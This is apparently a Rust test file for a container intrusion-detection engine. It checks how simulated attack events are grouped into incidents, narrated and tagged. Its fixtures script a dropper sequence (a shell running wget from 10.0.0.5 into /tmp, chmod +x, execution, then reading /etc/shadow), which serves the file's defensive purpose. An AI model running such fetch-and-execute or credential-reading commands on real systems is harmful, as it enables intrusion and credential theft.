use super::support::World;
use crate::incident::{Incident, State};

fn rules(incident: &Incident) -> Vec<&str> {
    incident.rules.iter().map(String::as_str).collect()
}

fn dropper(world: &mut World, c: &str, second: u64) {
    world
        .exec(c, second, (20, 10), &["/bin/sh", "-c", "cd /tmp; wget http://10.0.0.5/x"], "image")
        .exec(c, second + 1, (21, 20), &["/usr/bin/wget", "http://10.0.0.5/x"], "image")
        .net(c, second + 1, 21, "connect", [("10.0.0.9", 40_000), ("10.0.0.5", 80)])
        .open(c, second + 2, 21, "/tmp/x", "O_WRONLY|O_CREAT")
        .exit(c, second + 2, 21)
        .exec(c, second + 3, (22, 20), &["/bin/chmod", "+x", "/tmp/x"], "image")
        .chmod(c, second + 3, 22, "/tmp/x")
        .exit(c, second + 3, 22)
        .exec(c, second + 4, (23, 20), &["/tmp/x"], "upper")
        .open(c, second + 5, 23, "/etc/shadow", "O_RDONLY");
}

#[test]
fn a_dropper_is_one_incident_that_tells_its_story() {
    let mut world = World::new();
    world.begin("web-1", 0, "/usr/sbin/nginx");
    dropper(&mut world, "web-1", 100);
    assert_eq!(world.incidents().len(), 1, "told at once, and again when there is more");
    world.tick(500);
    let [incident] = world.incidents()[..] else { panic!("{:#?}", world.incidents()) };
    assert_eq!(rules(incident), ["dropped", "secret", "shell", "download"]);
    assert_eq!(incident.tags, ["command-and-control", "credential-access", "defense-evasion", "execution"]);
    assert!(
        incident.text.starts_with("In web-1 (localhost/web), nginx started /bin/sh -c "),
        "{}",
        incident.text
    );
    for part in [
        "which started /usr/bin/wget http://10.0.0.5/x, /bin/chmod +x /tmp/x and /tmp/x, which opened /etc/shadow.",
        "wget connected to 10.0.0.5:80 and wrote /tmp/x.",
        "chmod changed the mode of /tmp/x.",
        "/tmp/x was executed, which is not in the image (dropped, high, ",
    ] {
        assert!(incident.text.contains(part), "{part}: {}", incident.text);
    }
    assert_eq!(incident.title, "web-1: /tmp/x was executed, which is not in the image, and 3 more");
    let labels: Vec<_> = incident.graph.nodes.iter().map(|n| (n.kind.as_str(), n.label.as_str())).collect();
    assert!(labels.contains(&("file", "/tmp/x")) && labels.contains(&("peer", "10.0.0.5:80")), "{labels:?}");
    let id = |label: &str, kind: &str| {
        incident.graph.nodes.iter().find(|n| n.kind == kind && n.label.starts_with(label)).unwrap().id.clone()
    };
    let tied = |from: &str, to: (&str, &str), kind: &str| {
        let (from, to) = (id(from, "process"), id(to.0, to.1));
        incident.graph.edges.iter().any(|e| (&e.from, &e.to, e.kind.as_str()) == (&from, &to, kind))
    };
    assert!(tied("/usr/sbin/nginx", ("/bin/sh", "process"), "executed"), "{:#?}", incident.graph);
    assert!(tied("/usr/bin/wget", ("/tmp/x", "file"), "wrote"));
    assert!(tied("/tmp/x", ("/tmp/x", "file"), "executed"));
    assert!(tied("/tmp/x", ("/etc/shadow", "file"), "opened"));
    assert!(incident.timeline.windows(2).all(|two| two[0].time <= two[1].time));
    assert!(incident.ledger.complete && incident.alarms_total == 4);
}

#[test]
fn what_follows_without_an_alarm_is_drawn_too() {
    let mut world = World::new();
    world.begin("web-1", 0, "/usr/sbin/nginx");
    dropper(&mut world, "web-1", 100);
    world.open("web-1", 110, 23, "/tmp/later", "O_CREAT|O_RDWR").tick(2000);
    let [incident] = world.incidents()[..] else { panic!() };
    assert!(incident.text.contains("/tmp/later"), "{}", incident.text);
    assert!(incident.timeline.iter().any(|m| m.alarm.is_none() && m.text.contains("wrote /tmp/later")));
}

#[test]
fn two_attacks_that_have_nothing_in_common_stay_two() {
    let mut world = World::new();
    world.begin("web-1", 0, "/usr/sbin/nginx").begin("web-2", 0, "/usr/sbin/nginx");
    dropper(&mut world, "web-1", 100);
    // By another way: somebody outside, in the other container.
    world.exec("web-2", 110, (50, 4), &["/bin/bash"], "image").exec(
        "web-2",
        111,
        (51, 50),
        &["/dev/shm/y"],
        "upper",
    );
    assert_eq!(world.incidents().len(), 2);
}

#[test]
fn two_attacks_in_one_container_by_different_ways_stay_two() {
    let mut world = World::new();
    world.begin("web-1", 0, "/usr/sbin/nginx");
    dropper(&mut world, "web-1", 100);
    world.exec("web-1", 110, (50, 4), &["/bin/bash"], "image").exec(
        "web-1",
        111,
        (51, 50),
        &["/dev/shm/y"],
        "upper",
    );
    let [one, other] = world.incidents()[..] else { panic!() };
    assert!(other.text.contains("somebody outside started /bin/bash"), "{} {}", one.text, other.text);
}

#[test]
fn a_server_that_is_everybodys_ancestor_does_not_make_one_incident_of_all() {
    let mut world = World::new();
    world.begin("ci", 0, "/usr/bin/runner");
    for job in 0..20 {
        let (second, pid) = (100 + job * 300, 100 + job);
        world.exec("ci", second, (pid, 10), &["/usr/bin/wget", &format!("http://h/{job}")], "image").exit(
            "ci",
            second + 1,
            pid,
        );
    }
    assert!(world.incidents().is_empty(), "{:#?}", world.incidents());
}

#[test]
fn sessions_from_outside_into_one_container_are_one_story() {
    let mut world = World::new();
    world.begin("db", 0, "/usr/bin/postgres");
    world
        .exec("db", 100, (50, 4), &["/bin/bash"], "image")
        .exit("db", 110, 50)
        .exec("db", 400, (60, 5), &["/usr/bin/wget", "http://h/x"], "image")
        .open("db", 401, 60, "/etc/shadow", "O_RDONLY");
    let [incident] = world.incidents()[..] else { panic!("{:#?}", world.incidents()) };
    assert_eq!(rules(incident), ["secret", "shell", "download"]);
}

#[test]
fn a_file_that_one_left_and_another_executed_ties_them() {
    let mut world = World::new();
    world.begin("web-1", 0, "/usr/sbin/cron");
    // Somebody outside leaves a file; later the container's own work executes it.
    world
        .exec("web-1", 100, (50, 4), &["/bin/bash"], "image")
        .open("web-1", 101, 50, "/usr/local/bin/job", "O_WRONLY|O_CREAT")
        .exit("web-1", 102, 50)
        .exec("web-1", 300, (70, 10), &["/usr/local/bin/job"], "upper");
    let [incident] = world.incidents()[..] else { panic!("{:#?}", world.incidents()) };
    assert_eq!(rules(incident), ["dropped", "shell"]);
    assert!(incident.text.contains("wrote /usr/local/bin/job"), "{}", incident.text);
}

#[test]
fn containers_tied_by_a_connection_are_one_incident() {
    let mut world = World::new();
    world.begin("web", 0, "/usr/sbin/nginx").begin("db", 0, "/usr/bin/postgres");
    let (client, service, server) = (("10.0.0.1", 40_000), ("10.96.0.7", 5432), ("10.0.0.2", 5432));
    world
        .exec("web", 100, (20, 10), &["/bin/sh"], "image")
        .exec("web", 101, (21, 20), &["/tmp/x"], "upper")
        // By the address of a service, which the other end never sees.
        .net("web", 102, 21, "connect", [client, service])
        .net("db", 102, 10, "accept", [server, client])
        .exec("db", 103, (30, 10), &["/bin/sh", "-c", "id"], "image")
        .open("db", 104, 30, "/etc/shadow", "O_RDONLY");
    let told = world.tick(2000).incidents();
    let [incident] = told[..] else { panic!("{told:#?}") };
    assert_eq!((incident.subjects.len(), incident.workload.as_str()), (2, "web"));
    assert!(incident.graph.nodes.iter().any(|n| n.kind == "container" && n.label == "db"));
    assert!(incident.text.contains(" In db (localhost/web), postgres started"), "{}", incident.text);
    assert!(incident.graph.edges.iter().any(|e| e.kind == "connected" && e.to.starts_with('p')));
}

#[test]
fn merging_keeps_the_id_that_was_told() {
    let mut world = World::new();
    world.begin("web-1", 0, "/usr/sbin/nginx");
    // Not told: the container's own work leaves a shell behind.
    world
        .exec("web-1", 100, (20, 10), &["/bin/sh"], "image")
        .open("web-1", 101, 20, "/tmp/x", "O_WRONLY|O_CREAT")
        .exec("web-1", 102, (50, 4), &["/dev/shm/y"], "upper");
    let told = world.incidents()[0].id.clone();
    world.exec("web-1", 103, (51, 50), &["/tmp/x"], "upper").tick(500);
    let [incident] = world.incidents()[..] else { panic!("{:#?}", world.incidents()) };
    assert_eq!(incident.id, told);
    assert_eq!((rules(incident), incident.alarms_total), (vec!["dropped", "shell"], 3));
}

#[test]
fn an_incident_is_over_after_the_window_or_soon_after_its_container() {
    let mut world = World::new();
    world.begin("web-1", 0, "/usr/sbin/nginx");
    dropper(&mut world, "web-1", 100);
    let states = |world: &World| world.tellings().iter().map(|i| i.state).collect::<Vec<_>>();
    world.tick(105 + 899);
    assert!(!states(&world).contains(&State::Over));
    world.tick(105 + 900);
    assert_eq!(states(&world).last(), Some(&State::Over));
    assert!(world.incidents()[0].over.is_some());
    dropper(&mut world, "web-1", 3000);
    assert_eq!(world.incidents().len(), 2, "what is over stays so");
    world.engine.ended("web-1", super::support::at(3010));
    assert_eq!(states(world.tick(3039)).iter().filter(|s| **s == State::Over).count(), 1);
    assert_eq!(states(world.tick(3040)).iter().filter(|s| **s == State::Over).count(), 2);
    assert_eq!(world.engine.counts().open_incidents, 0);
}

#[test]
fn the_same_events_tell_the_same() {
    let tell = || {
        let mut world = World::new();
        world.begin("web-1", 0, "/usr/sbin/nginx").begin("web-2", 0, "/usr/sbin/nginx");
        dropper(&mut world, "web-1", 100);
        dropper(&mut world, "web-2", 100);
        world.tick(5000);
        serde_json::to_string(&world.told).unwrap()
    };
    assert_eq!(tell(), tell());
}

#[test]
fn what_was_lost_meanwhile_is_said() {
    let mut world = World::new();
    world.begin("web-1", 0, "/usr/sbin/nginx");
    world.engine.lost("web-1", 7);
    dropper(&mut world, "web-1", 100);
    assert!(world.incidents()[0].ledger.complete, "what was lost before is another matter");
    world.engine.lost("web-1", 5);
    world.tick(5000);
    let ledger = &world.incidents()[0].ledger;
    assert_eq!((ledger.complete, ledger.lost), (false, 5));
    assert!(world.incidents()[0].text.contains("5 events were lost meanwhile"));
}
